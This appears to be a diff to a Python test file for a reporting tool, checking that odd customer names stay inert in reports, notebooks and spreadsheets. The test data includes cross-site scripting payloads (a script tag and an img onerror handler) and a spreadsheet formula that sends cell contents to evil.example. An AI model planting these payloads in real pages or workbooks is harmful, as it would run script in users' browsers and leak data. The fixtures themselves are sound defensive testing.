@@ -1,4 +1,8 @@
-"""Names that are scripts, formulas, very long, Arabic or emoji stay inert and readable on every face of a report."""
+"""Names that are scripts, formulas, very long, Arabic or emoji stay inert and readable on every face of a report.
+
+The quick look, without a browser but for one test, and at every part that notebooks show. That whole reports, packs,
+JupyterLab and the app run nothing, whatever is in the data, is in tests/test_hostile.py.
+"""
 
 from __future__ import annotations
 
@@ -9,6 +13,7 @@ import nbformat
 import openpyxl
 import pandas as pd
 import pytest
+from hostile import ARABIC, EMOJI, LONG
 
 from pmo_analysis.contract.settings import Settings
 from pmo_analysis.intake.load import load
@@ -22,9 +27,6 @@ from pmo_analysis.quarter import run_quarter
 SCRIPT = "<script>window.pwned = 1</script>"
 IMAGE = '"><img src=x onerror="window.pwned=1">'
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-LONG = ("Directorate for the coordination of everything " * 7)[:300]
-ARABIC = "إدارة المشتريات"
-EMOJI = "🚀 Rocket team"
 NAMES = [SCRIPT, IMAGE, FORMULA, LONG, ARABIC, EMOJI]
 ROWS = 6  # deliveries per customer
 
